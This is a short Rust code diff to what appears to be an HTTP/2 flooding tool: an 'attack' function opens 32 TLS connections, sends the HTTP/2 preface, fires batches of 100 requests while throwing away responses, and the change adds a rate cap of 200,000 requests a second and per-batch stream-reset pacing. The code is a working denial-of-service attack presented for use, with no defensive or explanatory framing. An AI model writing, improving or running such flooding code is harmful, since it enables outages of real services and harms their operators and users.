@@ -11,6 +11,8 @@ use crate::shield::speaker;
 
 /// Connections at once.
 pub(super) const CONNECTIONS: usize = 32;
+/// Requests a second, all together, at the most.
+pub(super) const REQUESTS_S: u32 = 200_000;
 /// Requests that go out together.
 const BATCH: u32 = 100;
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
@@ -27,7 +29,7 @@ pub(super) async fn attack(attack: Arc<Attack>, number: usize) {
         return;
     };
     loop {
-        let socket = attack.dial(number, attack.orders.tls).await;
+        let socket = attack.dial(number, attack.orders.target.tls).await;
         if let Ok(stream) = connector.connect(name.clone(), socket).await {
             let (mut reader, mut writer) = tokio::io::split(stream);
             // What is answered is thrown away; a node that waits for its reader would be spared.
@@ -43,7 +45,11 @@ pub(super) async fn attack(attack: Arc<Attack>, number: usize) {
                 }
                 let fields = fields(&attack.orders.path);
                 let mut stream = 1;
-                while writer.write_all(&batch(stream, &fields)).await.is_ok() {
+                loop {
+                    attack.resets.turn(BATCH).await;
+                    if writer.write_all(&batch(stream, &fields)).await.is_err() {
+                        return;
+                    }
                     let sent = writer.flush().await;
                     attack
                         .requests
